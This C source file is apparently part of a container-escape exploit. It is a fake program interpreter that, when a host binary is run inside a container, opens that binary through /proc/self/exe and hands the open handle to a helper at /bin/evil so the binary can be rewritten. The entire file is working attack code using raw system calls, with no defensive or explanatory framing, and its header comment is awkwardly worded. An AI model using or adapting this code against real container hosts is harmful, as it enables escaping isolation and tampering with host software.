/* Stands where a program interpreter is looked for, so that a dynamic binary of the node that is run in the container
 * runs this instead: it opens that binary and leaves, with it, to /bin/evil. No library, since it is none's own.
 */
static long call(long number, long a, long b, long c)
{
    long result;
#if defined(__x86_64__)
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
#error "system calls of this machine are not known"
#endif
    return result;
}

void _start(void)
{
    static char *arguments[] = {"/bin/evil", "rewrite", "3", 0};
    call(2, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    call(59, (long)arguments[0], (long)arguments, 0);
    call(60, 99, 0, 0);
}
